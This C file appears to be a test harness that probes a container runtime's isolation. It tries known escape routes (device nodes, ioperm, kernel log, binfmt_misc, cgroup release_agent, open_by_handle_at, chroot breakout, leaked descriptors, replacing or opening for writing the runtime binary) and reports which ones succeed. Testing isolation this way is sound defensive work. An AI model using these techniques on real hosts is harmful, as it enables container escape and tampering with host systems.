// Devices, and files below /proc and /sys; files of the host.
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdalign.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/klog.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>
#if defined(__x86_64__) || defined(__i386__)
#include <sys/io.h>
#endif

#include "attack.h"

static int node(const char *directory, char type, dev_t number, int flags)
{
    char name[256];

    (void)snprintf(name, sizeof(name), "%s/attack-device", directory);
    (void)unlink(name);
    if (mknod(name, (type == 'b' ? S_IFBLK : S_IFCHR) | 0600, number) == -1)
        return -1;
    int fd = open(name, flags);
    int error = errno;
    (void)unlink(name);
    errno = error;
    return fd;
}

int device(char type, unsigned major, unsigned minor, int flags)
{
    static const char *const places[] = {".", "/", "/tmp", "/dev", "/dev/shm", "/run"};
    dev_t number = makedev(major, minor);

    for (size_t i = 0; i < sizeof(places) / sizeof(places[0]); i++) {
        int fd = node(places[i], type, number, flags);
        if (fd != -1)
            return fd;
    }
    // A place of its own, where devices are devices: who may mount can have one.
    int error = errno;
    if (mount("none", "/proc", "tmpfs", 0, "size=4k") == 0)
        return node("/proc", type, number, flags);
    errno = error;
    return -1;
}

// TYPE MAJOR MINOR, and more of them. Opened to read, and not read.
void attack_device(char **argv)
{
    for (; argv[0] != NULL; argv += 3)
        if (device(argv[0][0], (unsigned)atoi(argv[1]), (unsigned)atoi(argv[2]), O_RDONLY) != -1)
            works("the device %s %s:%s is open", argv[0], argv[1], argv[2]);
    held("open a device");
}

// A port that nothing listens on, given and not used.
void attack_ports(char **argv)
{
    (void)argv;
#if defined(__x86_64__) || defined(__i386__)
    if (ioperm(0x80, 1, 1) == 0)
        works("port 0x80 may be written to");
    held("ioperm");
#else
    errno = ENOSYS;
#endif
}

void attack_kernel_log(char **argv)
{
    char log[4096];

    (void)argv;
    if (klogctl(3, log, sizeof(log)) > 0) // read, and not cleared
        works("read by syslog(2)");
    int error = errno;
    if (open("/dev/kmsg", O_RDONLY | O_NONBLOCK) != -1 ||
        device('c', 1, 11, O_RDONLY | O_NONBLOCK) != -1)
        works("/dev/kmsg is open");
    errno = error;
    held("syslog");
}

// FILE...: some of it.
void attack_read(char **argv)
{
    char text[16];

    for (; *argv != NULL; argv++) {
        int fd = open(*argv, O_RDONLY | O_NONBLOCK);
        if (fd != -1 && (read(fd, text, sizeof(text)) > 0 || (errno == EAGAIN)))
            works("%s is read", *argv);
    }
    held("read");
}

// FILE...: for writing, which is not done.
void attack_open(char **argv)
{
    for (; *argv != NULL; argv++)
        if (open(*argv, O_WRONLY) != -1)
            works("%s is open for writing", *argv);
    held("open");
}

static bool rewritten(const char *file)
{
    char text[4096];
    int in = open(file, O_RDONLY), out = open(file, O_WRONLY);
    ssize_t size = in == -1 ? -1 : read(in, text, sizeof(text));

    return out != -1 && size >= 0 &&
           write(out, size > 0 ? text : "\n", size > 0 ? (size_t)size : 1) > 0;
}

// FILE...: each gets the value that it has.
void attack_rewrite(char **argv)
{
    for (; *argv != NULL; argv++)
        if (rewritten(*argv))
            works("%s is written to", *argv);
    held("write");
}

void attack_binfmt(char **argv)
{
    static const char there[] = "/proc/sys/fs/binfmt_misc";

    (void)argv;
    if (open("/proc/sys/fs/binfmt_misc/register", O_WRONLY) != -1)
        works("programs can be registered");
    int error = errno;
    if (mount("none", there, "binfmt_misc", 0, NULL) == 0 &&
        open("/proc/sys/fs/binfmt_misc/register", O_WRONLY) != -1)
        works("mounted, and programs can be registered");
    errno = error;
    held("open binfmt_misc/register");
}

// The kernel executes the host's program of that name when a group becomes empty. In a hierarchy of
// version 1 that is made for it, and has no controller: nothing else is in it.
void attack_release_agent(char **argv)
{
    (void)argv;
    if (mount("none", "/proc", "cgroup", 0, "none,name=mydocker-attack") == -1)
        held("mount a cgroup hierarchy");
    if (!rewritten("/proc/release_agent"))
        held("write to release_agent");
    works("release_agent of a new hierarchy is written to");
}

static bool made_in(const char *directory)
{
    char name[256];

    (void)snprintf(name, sizeof(name), "%s/mydocker-attack", directory);
    return mkdir(name, 0755) == 0 && rmdir(name) == 0;
}

// A group among the host's.
void attack_cgroup(char **argv)
{
    static const char *const places[] = {"/sys/fs/cgroup", "/sys/fs/cgroup/unified",
                                         "/sys/fs/cgroup/pids", "/sys/fs/cgroup/memory"};

    int error = ENOENT;

    (void)argv;
    for (size_t i = 0; i < sizeof(places) / sizeof(places[0]); i++) {
        char file[256];
        (void)snprintf(file, sizeof(file), "%s/cgroup.procs", places[i]);
        if (access(file, F_OK) == -1)
            continue;
        if (made_in(places[i]))
            works("a group in %s", places[i]);
        error = errno;
    }
    if (mount("none", "/proc", "cgroup2", 0, NULL) == 0 && made_in("/proc"))
        works("a group in a cgroup2 that it has mounted");
    errno = error;
    held("mkdir in /sys/fs/cgroup");
}

// TYPE HANDLE, as name_to_handle_at(2) tells them of the host's secret.
void attack_handle(char **argv)
{
    static const char *const places[] = {"/bin/attack", "/", ".", "/etc/hosts", "/etc/resolv.conf"};
    static alignas(struct file_handle) char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
    struct file_handle *handle = (struct file_handle *)room;
    unsigned byte;
    int error = 0;

    handle->handle_type = atoi(argv[0]);
    for (const char *hex = argv[1]; sscanf(hex, "%2x", &byte) == 1; hex += 2)
        handle->f_handle[handle->handle_bytes++] = (unsigned char)byte;
    for (size_t i = 0; i < sizeof(places) / sizeof(places[0]); i++) {
        int place = open(places[i], O_RDONLY);
        if (place == -1)
            continue;
        if (is_secret(open_by_handle_at(place, handle, O_RDONLY)))
            works("the host's file is read");
        error = errno;
    }
    errno = error;
    held("open_by_handle_at");
}

// FILE, the host's. A root directory that one has left behind is no root directory.
void attack_chroot(char **argv)
{
    int here = open(".", O_RDONLY | O_DIRECTORY);

    (void)rmdir("attack-root");
    if (mkdir("attack-root", 0755) == -1)
        held("mkdir");
    if (chroot("attack-root") == -1) {
        int error = errno;
        (void)rmdir("attack-root");
        errno = error;
        held("chroot");
    }
    if (here == -1 || fchdir(here) == -1)
        held("fchdir");
    (void)rmdir("attack-root");
    for (int i = 0; i < 64; i++)
        (void)!chdir("..");
    if (chroot(".") == -1)
        held("chroot");
    if (is_secret(open(argv[0], O_RDONLY)))
        works("the host's file is read");
    held("open %s", argv[0]);
}

// A directory of the host's that the caller forgot to close, or that is the working directory.
void attack_descriptors(char **argv)
{
    (void)argv;
    if (is_secret(open("secret", O_RDONLY)))
        works("by the working directory");
    for (int fd = 3; fd < 1024; fd++)
        if (is_secret(openat(fd, "secret", O_RDONLY)))
            works("by descriptor %d", fd);
    held("openat");
}

// PROGRAM, the runtime's: another one gets its name.
void attack_replace(char **argv)
{
    char other[4096];

    (void)snprintf(other, sizeof(other), "%s.new", argv[0]);
    int fd = open(other, O_WRONLY | O_CREAT | O_EXCL, 0755);
    if (fd == -1 || rename(other, argv[0]) == -1)
        held("make %s", other);
    works("%s is another program", argv[0]);
}

// DESCRIPTOR, of the runtime's program. It is busy while the runtime runs: so that has to end, and
// we live on. Opened for writing, and not written to.
void attack_overwrite(char **argv)
{
    char name[64];
    int fd = -1;

    (void)snprintf(name, sizeof(name), "/proc/self/fd/%s", argv[0]);
    (void)prctl(PR_SET_PDEATHSIG, 0);
    (void)signal(SIGHUP, SIG_IGN);
    (void)kill(0, SIGKILL); // PID 1 itself is spared
    for (int i = 0; i < 100 && fd == -1; i++) {
        fd = open(name, O_WRONLY);
        (void)usleep(10000);
    }
    if (fd != -1)
        works("the runtime's own program is open for writing");
    held("open for writing");
}
